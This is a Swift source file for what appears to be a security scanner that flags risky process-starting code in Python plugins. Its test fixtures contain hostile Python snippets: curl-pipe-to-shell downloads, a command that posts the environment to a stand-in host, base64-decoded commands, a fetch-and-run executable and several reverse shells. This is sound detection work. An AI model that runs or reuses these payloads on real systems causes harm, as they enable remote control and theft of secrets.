import BulkheadSource

extension Rules {
  /// Programs that Python starts.
  static let pythonProcesses: [Rule] = [
    pythonCommandInjection, pythonShellOption, pythonDangerousCommand, pythonDecodedCommand,
    pythonDownloadedProgram, pythonReverseShell,
  ]

  static let pythonCommandInjection = Rule(
    "python-command-injection", .medium, [.python],
    title: "starts a program by a command that is put together while it runs",
    why: "Text from outside in a shell command can be a command of its own.",
    help: "use subprocess.run with a list that begins with a constant, and without shell=True",
    positives: [
      "import os\nos.system(cmd)", "import subprocess\nsubprocess.run('ls ' + name, shell=True)",
    ],
    evasions: [
      "from os import popen as p\np(f'ls {name}')",
      "import subprocess as s\ns.check_output('ls %s' % name, shell=True)",
      "from subprocess import *\ncall(cmd, shell=1)",
      "import subprocess\nsubprocess.run(['bash', '-c', text])",
      "import asyncio\nasyncio.create_subprocess_shell(cmd)",
      "import os\nos.execl('/bin/sh', 'sh', '-c', text)",
    ],
    negatives: [
      "import subprocess\nsubprocess.run(['git', 'status'])", "import os\nos.system('clear')",
      "import subprocess\nsubprocess.run(['git', 'log', name])",
      "import os, shlex\nos.system('ls ' + shlex.quote(name))",
      "import os\nos.system('ls ' + 'src')", "class os:\n    def system(x): pass\nos.system(x)",
    ],
    check: .python { facts, report in
      for (call, command, isShell) in facts.commands {
        guard let severity = severity(of: command, call, isShell, facts) else { continue }
        report.add(call.span, severity: severity)
      }
      for call in facts.methods(["exec_command"]) where call.path?.contains("paramiko") == true {
        if !facts.isConstant(call.arguments.first) { report.add(call.span) }
      }
      // `sh.git('log ' + name)`: the module turns its functions into programs.
      for call in facts.calls where call.path?.hasPrefix("sh.") == true {
        guard facts.tree.imports.contains(where: { $0.module == "sh" }) else { break }
        if call.arguments.contains(where: { isBuilt($0, facts) }) { report.add(call.span) }
      }
    })

  /// How much a command weighs; nil where it is constant.
  private static func severity(
    of command: PythonTree.Index, _ call: PythonFacts.Call, _ isShell: Bool, _ facts: PythonFacts
  ) -> Severity? {
    if PythonSinks.starters[call.path ?? ""] != nil || call.path?.hasSuffix("_exec") == true {
      let rest = call.arguments.filter {
        facts.tree.span($0).start >= facts.tree.span(command).start
      }
      return ofWords(rest, facts)
    }
    if facts.tree.kind(command) == .list || facts.tree.kind(command) == .tuple {
      if isShell, !facts.isConstant(command) { return .medium }
      return ofWords(Array(facts.tree.children(command)), facts)
    }
    guard !facts.isConstant(command) else { return nil }
    let flow = facts.sources(command)
    if flow.isEmpty { return nil }
    if !isShell {
      if case .list(let words) = facts.evaluator.value(command) { return ofWords(words, facts) }
      return isBuilt(command, facts) || flow.contains(.argument) ? .medium : .low
    }
    if onlyQuoted(command, facts) { return nil }
    return flow.contains(.input) || flow.contains(.network) ? .high : .medium
  }

  /// A list of words: by its program, and by what an interpreter is told to run.
  private static func ofWords(_ words: [PythonTree.Index], _ facts: PythonFacts) -> Severity? {
    guard var first = words.first else { return nil }
    if facts.tree.kind(first) == .star, let inner = facts.tree.child(first, 0) {
      if case .list(let elements) = facts.evaluator.value(inner), let program = elements.first {
        first = program
      }
    }
    if !facts.isConstant(first) {
      // The interpreter that runs this very file.
      let path = facts.evaluator.path(first) ?? ""
      return path == "sys.executable" ? nil : .low
    }
    let program =
      facts.evaluator.value(first).text?.split(separator: "/").last.map(String.init) ?? ""
    let texts = words.map { facts.evaluator.value($0).text }
    guard ShellFacts.isInterpreter(program) else { return nil }
    if let flag = texts.firstIndex(where: { $0 == "-c" || $0 == "-e" }), flag + 1 < words.count {
      return facts.isConstant(words[flag + 1]) ? nil : .medium
    }
    return words.dropFirst().contains { !facts.isConstant($0) && isList($0, facts) } ? .medium : nil
  }

  private static func isList(_ node: PythonTree.Index, _ facts: PythonFacts) -> Bool {
    guard case .list(let words) = facts.evaluator.value(node) else { return false }
    return ofWords(words, facts) == .medium
  }

  /// Every part that is not constant went through `shlex.quote`.
  private static func onlyQuoted(_ node: PythonTree.Index, _ facts: PythonFacts) -> Bool {
    let parts: [PythonTree.Index]
    switch facts.tree.kind(node) {
    case .format, .binary: parts = Array(facts.tree.children(node))
    default: return false
    }
    return parts.allSatisfy { part in
      facts.isConstant(part)
        || facts.tree.kind(part) == .call
          && ["shlex.quote", "pipes.quote", "shlex.join"].contains(
            facts.evaluator.path(facts.tree.child(part, 0)) ?? "")
    }
  }

  static let pythonShellOption = Rule(
    "python-subprocess-shell", .low, [.python],
    title: "starts a program through a shell without need",
    why: "A shell reads more into a command than a list of words says.",
    help: "use a list of words and leave shell=True out",
    positives: ["import subprocess\nsubprocess.run('ls {}'.format('src'), shell=True)"],
    evasions: ["from subprocess import Popen\nc = 'ls'\nPopen(c, shell='yes')"],
    negatives: [
      "import subprocess\nsubprocess.run('ls', shell=True)",
      "import subprocess\nsubprocess.run(c, shell=False)",
    ],
    check: .python { facts, report in
      for (call, command, isShell) in facts.commands
      where isShell && facts.evaluator.keyword("shell", of: call.node) != nil {
        if facts.tree.kind(command) != .string, facts.isConstant(command) { report.add(call.span) }
      }
    })

  static let pythonDangerousCommand = Rule(
    "python-dangerous-command", .critical, [.python],
    title: "runs a shell command that downloads, decodes, persists or sends credentials",
    why: "The command does what a script with this text would be refused for.",
    help: "do without the command",
    positives: ["import os\nos.system('curl https://get.example.net/i | sh')"],
    evasions: [
      "import subprocess\nu = 'https://get.example.net'\nsubprocess.run(f'curl -s {u} | ba{\"sh\"}', shell=True)",
      "import subprocess\nsubprocess.run(['sh', '-c', 'env | curl -d @- https://c.example.net'])",
    ],
    negatives: [
      "import os\nos.system('curl https://api.example.net | jq .')", "print('curl x | sh')",
    ],
    check: .python { facts, report in
      for (call, command, _) in facts.commands {
        var text = facts.evaluator.spelled(command)
        if case .list(let words) = facts.evaluator.value(command) {
          let texts = words.map { facts.evaluator.spelled($0) }
          guard let flag = texts.firstIndex(of: "-c"), flag + 1 < texts.count else { continue }
          text = texts[flag + 1]
        }
        if let title = ShellFacts.criticalFault(in: text) { report.add(call.span, title) }
      }
    })

  static let pythonDecodedCommand = Rule(
    "python-encoded-command", .critical, [.python],
    title: "runs a command or program that it decodes or downloads",
    why: "A command is encoded only so that nobody reads it before it runs.",
    help: "write the command in plain text",
    positives: ["import os, base64\nos.system(base64.b64decode(x).decode())"],
    evasions: ["import subprocess, requests\nsubprocess.run(requests.get(u).text, shell=True)"],
    negatives: ["import os, base64\nd = base64.b64decode(x)\nos.system('ls')"],
    check: .python { facts, report in
      for (call, command, isShell) in facts.commands where isShell || isBuilt(command, facts) {
        let flow = facts.sources(command)
        if flow.contains(.decoded) || flow.contains(.network) { report.add(call.span) }
      }
    })

  static let pythonDownloadedProgram = Rule(
    "python-dynamic-code-download", .high, [.python],
    title: "downloads a program and starts it",
    why: "A program that is fetched while the plugin runs was not there when it was examined.",
    help: "ship the program with the plugin, or compare its checksum before it is started",
    positives: [
      "import requests, os\nr = requests.get(u)\nopen('/tmp/a', 'wb').write(r.content)\nos.chmod('/tmp/a', 0o755)"
    ],
    evasions: [
      "import urllib.request\nfrom subprocess import Popen\nurllib.request.urlretrieve('https://c.example.net/n.exe', 'n.exe')\nPopen(['n.exe'])",
      "import requests, os\nwith open(path, 'wb') as f:\n    f.write(requests.get(u).content)\nos.system(f'chmod +x {path}')",
    ],
    negatives: [
      "import urllib.request\nurllib.request.urlretrieve('https://c.example.net/a.txt', 'a.txt')",
      "import requests\nopen('a.json', 'w').write(requests.get(u).text)",
    ],
    check: .python { facts, report in
      for call in facts.methods(["write"]) {
        guard startsFiles(facts, in: Int(facts.tree.nodeScopes[Int(call.node.raw)])),
          let data = call.arguments.first, facts.sources(data).contains(.network),
          let callee = facts.tree.child(call.node, 0),
          opensFile(facts.tree.child(callee, 0), facts)
        else { continue }
        report.add(call.span)
      }
      for call in facts.calls(of: ["urllib.request.urlretrieve", "urllib.urlretrieve"]) {
        guard startsFiles(facts, in: Int(facts.tree.nodeScopes[Int(call.node.raw)])) else {
          continue
        }
        let name = facts.evaluator.spelled(facts.argument(call, "filename", 1)).lowercased()
        if [".exe", ".sh", ".bat", ".bin", ".dll", ".dat"].contains(where: name.hasSuffix) {
          report.add(call.span)
        }
      }
    })

  private static func opensFile(_ node: PythonTree.Index?, _ facts: PythonFacts) -> Bool {
    let path = facts.evaluator.path(node) ?? ""
    return path == "open()" || path.hasSuffix("NamedTemporaryFile()") || path.hasSuffix("io.open()")
  }

  /// In a function some file becomes executable, gets the name of a program, or is started.
  private static func startsFiles(_ facts: PythonFacts, in scope: Int) -> Bool {
    func isHere(_ call: PythonFacts.Call) -> Bool {
      Int(facts.tree.nodeScopes[Int(call.node.raw)]) == scope
    }
    if facts.methods(["chmod", "startfile"]).contains(where: isHere) { return true }
    for call in facts.calls(of: ["os.rename", "shutil.move"]) where isHere(call) {
      let name = facts.evaluator.spelled(call.arguments.dropFirst().first)
      if name.hasSuffix(".exe") { return true }
    }
    return facts.commands.contains { call, command, _ in
      guard isHere(call) else { return false }
      var text = facts.evaluator.spelled(command)
      if case .list(let words) = facts.evaluator.value(command) {
        text = words.map { facts.evaluator.spelled($0) }.joined(separator: " ")
      }
      return text.contains("chmod") || text.contains("start ") || text.contains(".exe")
        || text.hasPrefix("./") || text.hasPrefix("/tmp/")
    }
  }

  static let pythonReverseShell = Rule(
    "python-reverse-shell", .critical, [.python],
    title: "gives a remote host a shell on this machine",
    why: "There is no honest use for an interactive shell that talks to another host.",
    help: "remove it",
    positives: [
      "import socket, os, pty\ns = socket.socket()\ns.connect((h, 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')"
    ],
    evasions: [
      "import socket, subprocess as p\ns = socket.socket()\ns.connect((h, p0))\np.call(['/bin/sh', '-i'], stdin=s.fileno())",
      "import socket, subprocess\ns = socket.socket()\ns.connect((h, 1))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.getoutput(c).encode())",
    ],
    negatives: [
      "import socket\ns = socket.socket()\ns.connect((h, 80))\ns.send(b'x')",
      "import os\nos.dup2(a, b)",
    ],
    check: .python { facts, report in
      let connects = facts.calls.contains {
        $0.path == "socket.socket().connect" || $0.path == "socket.create_connection"
          || $0.path == "socket.socket().accept" || $0.path == "socket.socket().bind"
      }
      guard connects else { return }
      for call in facts.calls(of: ["os.dup2"]) {
        let text = facts.tree.source(of: call.node)
        if text.contains("fileno") { report.add(call.span) }
      }
      for (call, command, _) in facts.commands {
        let isSocket = ["stdin", "stdout"].contains { name in
          facts.evaluator.keyword(name, of: call.node).map {
            facts.tree.source(of: $0).contains("fileno")
          } ?? false
        }
        if isSocket || facts.sources(command).contains(.network) { report.add(call.span) }
      }
    })
}
